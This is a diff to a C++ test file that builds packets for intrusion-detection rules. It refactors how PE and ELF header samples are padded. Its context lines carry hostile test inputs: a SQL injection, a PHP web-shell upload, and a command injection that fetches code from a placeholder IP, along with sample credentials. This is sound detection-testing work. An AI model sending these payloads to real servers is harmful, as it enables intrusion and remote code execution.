@@ -57,6 +57,13 @@ std::vector<Frame> dns_query(const std::string& label, int labels) {
   return {{ethernet_ip(ipv4(ip, udp(40053, 53, from_text(message)))), 1'700'000'000'000'000}};
 }
 
+std::string program(std::string_view magic, std::size_t filler, std::string_view text) {
+  std::string out(magic);
+  out.append(filler, '\x01');
+  out.append(text);
+  return out;
+}
+
 struct Row {
   int sid;
   std::vector<Frame> frames;
@@ -72,12 +79,11 @@ std::vector<Row> rows() {
       {9000005, http("GET /item?id=1%20UNION%20ALL%20SELECT%20name HTTP/1.1")},
       {9000006, http("POST /upload HTTP/1.1", "<?php system($_GET['c']); ?>")},
       {9000007, http("GET /ping?host=127.0.0.1;wget%20http://203.0.113.9/x HTTP/1.1")},
-      {9000020, http(get, {}, "MZ" + std::string(76, '\x01') + "This program cannot be run in DOS mode")},
+      {9000020, http(get, {}, program("MZ", 76, "This program cannot be run in DOS mode"))},
       {9000021, http(get, {},
-                     std::string("\x7f"
-                                 "ELF\x02\x01\x01",
-                                 7) +
-                         std::string(60, '\0'))},
+                     program("\x7f"
+                             "ELF\x02\x01\x01",
+                             60, ""))},
       {9000040, http(get + "\r\nAuthorization: Basic dXNlcjpwYXNz")},
       {9000041, http("POST /login HTTP/1.1", "user=ada&password=analytical")},
       {9000042, client_says(25, "AUTH PLAIN AGFkYQBhbmFseXRpY2Fs\r\n")},
